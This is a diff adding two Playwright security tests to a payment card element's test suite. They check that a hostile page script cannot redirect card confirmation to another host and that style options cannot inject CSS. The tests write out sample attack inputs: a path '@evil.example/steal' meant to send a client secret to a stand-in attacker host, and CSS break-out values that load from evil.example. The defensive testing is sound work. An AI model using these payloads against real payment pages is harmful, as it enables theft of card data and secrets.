@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import re
 import shutil
+import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -362,3 +363,44 @@ def test_confirm_setup_with_the_payment_element_returns_to_the_return_url(
         page.wait_for_url(re.compile(r".*setup_intent_client_secret=.*"))
         assert "setup_intent=" + merchant.intents[0] in page.url
         page.locator("#status").filter(has_text="succeeded true succeeded").wait_for()
+
+
+def test_the_page_cannot_send_the_card_anywhere_but_the_sandbox(
+    page: Any, sandbox_url: str, stripe_key: str
+) -> None:
+    """A hostile page script asks the card's frame to confirm at a path of its choosing (one
+    that would turn the API base into another host); the frame derives the path itself."""
+    with run_merchant(sandbox_url, stripe_key) as merchant:
+        page.goto(merchant.url + "/card.html")
+        _fill_card(page, "4242424242424242")
+        seen: list[str] = []
+        page.on("request", lambda request: seen.append(request.url))
+        result = page.evaluate(
+            """() => cardElement._ask('confirm', {path: '@evil.example/steal',
+                 params: {client_secret: 'pi_123_secret_abc'}})"""
+        )
+        assert result["status"] == 404  # the sandbox's own answer: no such PaymentIntent
+        assert not [url for url in seen if "evil.example" in url]
+        assert any(
+            url.startswith(sandbox_url + "/v1/payment_intents/pi_123/confirm") for url in seen
+        )
+
+
+def test_style_options_cannot_break_out_of_their_rule(
+    page: Any, sandbox_url: str, stripe_key: str
+) -> None:
+    with run_merchant(sandbox_url, stripe_key) as merchant:
+        page.goto(merchant.url + "/card.html")
+        page.evaluate(
+            """() => cardElement.update({style: {base: {
+                 color: 'red} input{background:url(https://evil.example/x)',
+                 fontSize: '20px', backgroundImage: 'url(https://evil.example/y)',
+                 ':hover{} input': {color: 'blue'}, '::placeholder': {color: 'rgb(1, 2, 3)'}}}})"""
+        )
+        frame = page.frame_locator(f"#card-element {CARD_FRAME}")
+        style = frame.locator("#element-style")
+        deadline = time.monotonic() + 10
+        while "font-size:20px" not in (css := style.evaluate("el => el.textContent")):
+            assert time.monotonic() < deadline, f"the update never reached the frame: {css}"
+        assert "evil.example" not in css and ":hover{}" not in css
+        assert "font-size:20px" in css and "::placeholder{color:rgb(1, 2, 3)}" in css
